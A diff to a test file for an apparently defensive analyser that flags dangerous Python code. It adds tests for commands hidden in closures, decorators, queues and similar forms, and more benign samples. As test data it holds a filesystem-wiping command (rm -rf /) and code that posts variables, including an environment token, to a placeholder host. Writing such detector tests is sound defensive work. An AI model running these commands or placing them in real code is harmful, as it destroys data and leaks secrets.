@@ -5,8 +5,9 @@ from __future__ import annotations
 import pytest
 
 from engine.analysis import analyse
-from engine.models import Language, Level
+from engine.models import Language, Level, Verdict
 from tests.engine.analysis.passed_values import PASSED
+from tests.engine.analysis.python.passed_forms import FORMS
 
 _PLAIN = {
     "process": "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n",
@@ -78,11 +79,37 @@ def test_a_command_is_read_through_values(case: str) -> None:
     assert Level.CRITICAL in levels
 
 
+@pytest.mark.parametrize("form", FORMS)
+def test_a_command_is_read_in_every_form(form: str) -> None:
+    """Containers, closures, objects, decorators, callbacks and loops hide nothing."""
+    levels = [v.severity for v in analyse(FORMS[form], Language.PYTHON).violations]
+    assert Level.CRITICAL in levels
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_no_form_is_harmless(form: str) -> None:
+    """Whatever the rules find, none of them is proven harmless."""
+    assert analyse(FORMS[form], Language.PYTHON).verdict is not Verdict.HARMLESS
+
+
+def test_code_does_not_change_what_built_in_names_mean_to_other_code() -> None:
+    """A secret put into `vars` by one program is not in that of the next."""
+    code = "import requests\nrequests.post('https://a.example', data=vars)"
+    before = analyse(code, Language.PYTHON).violations
+    analyse("import os\nvars['x'] = os.environ['TOKEN']", Language.PYTHON)
+    assert before == analyse(code, Language.PYTHON).violations
+
+
 _BENIGN = {
     "another object of the class": _BOX + "a, b = Box(print), Box(len)\na.get()('rm')\nb.get()([1])",
     "a helper": _HELPER + "apply(print, 'a')\napply(len, [1])\napply(sorted, [2, 1])",
     "a wrapper within itself": "def timed(f):\n    return lambda *a: f(*a)\ntimed(timed(print))('a')",
     "a table of functions": "t = {'sum': sum, 'max': max}\nfor n, f in t.items():\n    print(n, f([1, 2]))",
+    "a decorator": "def deco(f):\n    return lambda *a: f(*a)\n"
+    "@deco\ndef add(a, b):\n    return a + b\nadd(1, 2)",
+    "a branch": "f = print\nif len('x'):\n    f = len\nf('x')",
+    "a queue": "import queue\nq = queue.Queue()\nq.put(print)\nq.get()('x')",
+    "a class that is made": "A = type('A', (), {'go': lambda self, c: print(c)})\nA().go('x')",
     "a loop over texts": "for name in ['a', 'b', 'c']:\n    print(name.upper())",
 }
 
